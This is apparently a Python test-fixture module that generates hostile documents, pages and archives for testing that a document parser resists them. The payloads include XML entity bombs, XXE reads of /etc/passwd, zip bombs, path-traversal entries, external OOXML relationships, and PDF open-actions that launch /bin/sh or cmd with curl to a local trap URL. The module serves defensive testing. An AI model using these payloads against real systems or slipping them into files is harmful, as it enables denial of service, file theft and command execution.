"""Files that are made to do harm, for tests: each with what is expected of it.

Where they name something elsewhere, it is at `trap`: somebody may listen there whether anything was fetched.
"""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache

from corpus.records import BlockKind
from corpus.testing import Text, pdf_of
from corpus.testing_hostile_office import harmless_office, hostile_office
from corpus.testing_markup import as_book, as_page, as_word, repacked, zip_of
from corpus.testing_office import ODT_NAMES

TRAP = "http://127.0.0.1:9"  # nobody listens there
_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_XML = {  # parts of documents in zips: what their root is, and how they read with something put in
    "word/document.xml": (
        "w:document",
        f"<w:document {_NS}><w:body><w:p><w:r><w:t>Water %s</w:t></w:r></w:p></w:body></w:document>",
    ),
    "word/styles.xml": ("w:styles", f"<w:styles {_NS}><w:style>%s</w:style></w:styles>"),
    "word/footnotes.xml": ("w:footnotes", f"<w:footnotes {_NS}>%s</w:footnotes>"),
    "docProps/core.xml": ("core", "<core>%s</core>"),
    "content.xml": (
        "c",
        f"<c {ODT_NAMES}><office:body><office:text><text:p>Water %s</text:p></office:text></office:body></c>",
    ),
    "styles.xml": ("s", f"<s {ODT_NAMES}><style:style>%s</style:style></s>"),
    "META-INF/manifest.xml": ("manifest", "<manifest>%s</manifest>"),
    "ppt/presentation.xml": ("p", "<p>%s</p>"),
    "ppt/slides/slide1.xml": ("s", "<s>%s</s>"),
    "ppt/slides/_rels/slide1.xml.rels": ("r", "<r>%s</r>"),
    "META-INF/container.xml": ("container", "<container>%s<rootfiles/></container>"),
    "EPUB/content.opf": ("package", "<package>%s</package>"),
    "EPUB/chapter0.xhtml": ("html", "<html><body><p>Water %s</p></body></html>"),
}


_MAIN = {  # the part that makes a zip a document of its kind
    "docx": "word/document.xml",
    "epub": "META-INF/container.xml",
    "odt": "META-INF/manifest.xml",
    "pptx": "ppt/presentation.xml",
}


@cache
def harmless() -> tuple[bytes, bytes, bytes]:
    """A Word document, an e-book and a web page that say “The pact governs water”."""
    blocks = [Text(BlockKind.HEADING, "Water", 1), Text(BlockKind.PARAGRAPH, "The pact governs water.")]
    return as_word(blocks), as_book(blocks), as_page(blocks)


def hostile(trap: str = TRAP) -> dict[str, tuple[bytes, str]]:
    """Files by name, and what is expected: `read`, words of the reason (`|` parts choices), or anything.

    Names say what they are; `page: …` are web pages.
    """
    made = {
        f"page: {name}": (text.encode("utf-8", "surrogatepass"), outcome)
        for name, text, outcome in _pages(trap)
    }
    for group in (_with_entities(trap), _broken(), _others(), hostile_office(trap), _reaching_out(trap)):
        made |= {name: (data, outcome) for name, data, outcome in group}
    return made


def _with_entities(trap: str) -> Iterator[tuple[str, bytes, str]]:
    declared = {
        "laughs": (f'<!ENTITY l0 "lol">{_LAUGHS}', "&l9;"),
        "quadratic": (f'<!ENTITY q "{"q" * 50_000}">', "&q;" * 50_000),
        "file": ('<!ENTITY f SYSTEM "file:///etc/passwd">', "&f;"),
        "web": (f'<!ENTITY f SYSTEM "{trap}/x">', "&f;"),
        "parameter": (f'<!ENTITY % p SYSTEM "{trap}/x.dtd"> %p;', ""),
    }
    for part, (root, xml) in _XML.items():
        for name, (entities, used) in declared.items():
            inside = f"<!DOCTYPE {root} [{entities}]>{xml % used}"
            yield f"{name} in {part}", repacked(_whole(part), {part: inside.encode()}), ""


def _whole(part: str) -> bytes:
    """A document that has such a part."""
    word, book, _ = harmless()
    if part.startswith(("word/", "docProps/")):
        return word
    if part.startswith("ppt/"):
        return harmless_office().slides
    return harmless_office().text if part in ("content.xml", "styles.xml", _MAIN["odt"]) else book


def _broken() -> Iterator[tuple[str, bytes, str]]:
    word, book, _ = harmless()
    office = harmless_office()
    whole = {"x.docx": word, "x.epub": book, "x.odt": office.text, "x.rtf": office.rtf}
    for name, data in (whole | {"x.pptx": office.slides, "mail": office.mail}).items():
        for n in range(20):
            yield f"{name} cut at {n}", data[: len(data) * n // 20 + 10], ""
    for name, part in _MAIN.items():
        yield f"{name} encrypted", zip_of({part: b"<x/>"}, flags=1), "encrypted"
        yield f"{name} of zeros", zip_of({part: b"\0" * 30_000_000}), "times its size"
        yield (
            f"{name} of many files",
            zip_of({part: b"<x/>", **{f"{n}": b"" for n in range(6000)}}),
            "6,001 files",
        )
        yield f"{name} of a directory", zip_of({part: b"x"}) + b"PK\1\2" * 1_000_000, "more than 5,000 files"
        yield f"{name} nested deep", zip_of({part: b"<a>" * 100_000}), "XML that cannot be read"
        yield f"{name} of no markup", zip_of({part: b"\0\1\2"}), "XML that cannot be read"
        outer = zip_of({part: b"<x/>", "in.zip": zip_of({"in.zip": b"\0" * 900_000})})
        without = "without its text|does not say where its text is|without a text|without slides"
        yield f"{name} with a zip", outer, without
        for path in ("../up", "/etc/passwd", "C:\\up", "a\0b"):
            yield f"{name} with {path!r}", repacked(_whole(part), {path: b"up"}), "read"
    yield "docx twice the same part", repacked(word, {"word/document.xml": b"<x/>"}), "without its text"


def _pages(trap: str) -> Iterator[tuple[str, str, str]]:
    def page(body: str) -> str:
        return f"<!doctype html><html><body><p>Water.</p>{body}</body></html>"

    yield "nested", page("<div>" * 100_000), "nested"
    yield "nested inline", page("<b>" * 100_000), "nested"
    yield "nested lists", page("<ul><li>" * 1_000), "nested"
    yield "nested tables", page("<table><tr><td>" * 300 + "x"), "read"
    yield "attribute", page(f"<p title='{'x' * 10_000_000}'>"), "read"
    yield (
        "attributes",
        page("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">"),
        "thousands of attributes",
    )
    yield "angles", page("<" * 300_000), "read"
    yield "ends", page("</p>" * 200_000), "read"
    yield "entities", page("&amp;" * 200_000 + "&nothing;" * 1000), "read"
    yield "own entity", '<!DOCTYPE html [<!ENTITY a "b">]><html><p>Water &a;', "read"
    yield "numbers", page("&#0;&#x110000;&#xD800;&#xFFFF;&#99999999999;"), "read"
    yield "open comment", page("<!-- "), "read"
    yield "open comments", "<!-- -->" * 20_000 + "<html><p>Water.", "read"
    yield "open script", page("<script>" + "x" * 100_000), "read"
    yield "cells", page("<table>" + "<tr><td>a<td>b" * 8_000), "read"
    yield "spans", page(f"<table><tr><td rowspan=65534 colspan=9999>{'x' * 500}<tr>" * 100), "read"
    yield "notes", page("<sup><a href='#n'>1</a></sup>" * 5_000 + "<p id=n>Note."), "read"
    yield "links", page("".join(f"<a href='#i{n}' id=i{n + 1}>{n}</a>" for n in range(5_000))), "read"
    yield "ids", page("".join(f"<b id=i{n}></b>" for n in range(20_000)) + "x"), "read"
    yield "tags", page("\U000e0041\U000e0042\u202e\u200b Water"), "read"
    yield (
        "address",
        page(f"<base href='{trap}/'><img src=x><svg onload=x()>"),
        "read",
    )
    yield "linked data", page("<script type='application/ld+json'>" + "[" * 100_000 + "</script>"), "read"
    yield "brackets", page("[" * 100_000), "read"
    yield "one line", page("water " * 500_000), "read"
    yield "breaks", page("<br>" * 20_000), "read"
    yield "marks", page("e" + "\u0301" * 300_000), "read"
    yield "only hidden", "<html><p hidden>Water.<p style='display:none'>More.", "no words"


def _others() -> Iterator[tuple[str, bytes, str]]:
    yield "utf-7", b"<html><meta charset=utf-7><p>+ADw-script+AD4-", "read"
    yield "escapes", b"<html><meta charset=unicode_escape><p>\\x3cscript", "read"
    yield "codec", b"<html><meta charset=zlib><p>Water.", "read"
    yield "wrong mark", b"\xff\xfe<html><p>Water.", "not valid utf-16"
    yield "nuls", b"<html><p>" + b"\0" * 100_000, "binary"
    yield "cues", b"WEBVTT\n\n" + b"99:59:59.999 --> 00:00:00.000\n<v x>a\n\n" * 20_000, "read"
    yield "voices", b"WEBVTT\n\n00:01.000 --> 00:02.000\n" + b"<v " * 300_000, "read"


def _reaching_out(trap: str) -> Iterator[tuple[str, bytes, str]]:
    """Files that want something fetched, in each way that their formats know."""
    word, book, _ = harmless()
    fetched = (
        f"<link rel=stylesheet href='{trap}/a.css'><script src='{trap}/a.js'></script>"
        f"<meta http-equiv=refresh content='0;url={trap}/b'><img src='{trap}/c.png' srcset='{trap}/d.png 2x'>"
        f"<iframe src='{trap}/e'></iframe><object data='{trap}/f'></object><video src='{trap}/g'></video>"
        f"<link rel=dns-prefetch href='{trap}'><style>@import '{trap}/h.css';</style>"
        f"<svg><use href='{trap}/i.svg#x'/><image href='{trap}/j.png'/></svg><body background='{trap}/k'>"
    )
    yield "page that fetches", f"<!doctype html><html>{fetched}<p>Water.</html>".encode(), "read"
    stylesheet = f"<?xml-stylesheet href='{trap}/x.xsl' type='text/xsl'?>"
    include = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{trap}/x.xml'/>"
    xhtml = (
        f"{stylesheet}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>Water.</p>{include}</body></html>"
    )
    yield "xhtml that includes", xhtml.encode(), "read"
    yield "book that includes", repacked(book, {"EPUB/chapter0.xhtml": xhtml.encode()}), "read"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = ("attachedTemplate", "image", "oleObject", "hyperlink", "frame", "aFChunk", "subDocument")
    relations = "".join(
        f"<Relationship Id='r{n}' Type='{office}/{kind}' Target='{target}/{kind}' TargetMode='External'/>"
        for n, kind in enumerate(kinds)
        for target in (trap, "file:///etc/passwd#")
    )
    relationships = (
        f"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{relations}"
        "</Relationships>"
    )
    for part in ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "_rels/.rels"):
        expected = "read" if part.startswith("word") else ""
        yield f"docx that fetches by {part}", repacked(word, {part: relationships.encode()}), expected
    for name, action in {
        "link": f"/S/URI/URI({trap}/u)",
        "launch": f"/S/Launch/F(/bin/sh)/Win<</F(cmd)/P(curl {trap})>>",
        "script": f"/S/JavaScript/JS(app.launchURL('{trap}/j'))",
        "file elsewhere": f"/S/GoToR/F<</FS/URL/F({trap}/r.pdf)>>/D[0/Fit]",
        "form": f"/S/SubmitForm/F<</FS/URL/F({trap}/s)>>",
    }.items():
        yield f"pdf with a {name}", _pdf(action), "read"


def _pdf(action: str) -> bytes:
    """A PDF of one line that does something when it is opened."""
    line = b"BT /F 12 Tf 72 720 Td (The pact governs water.) Tj ET"
    return pdf_of(
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>/AA<</WC<<{action}>>>>>>".encode(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
        + f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<<{action}>>>>]>>".encode(),
        b"<</Length %d>>stream\n%b\nendstream" % (len(line), line),
        b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>",
    )
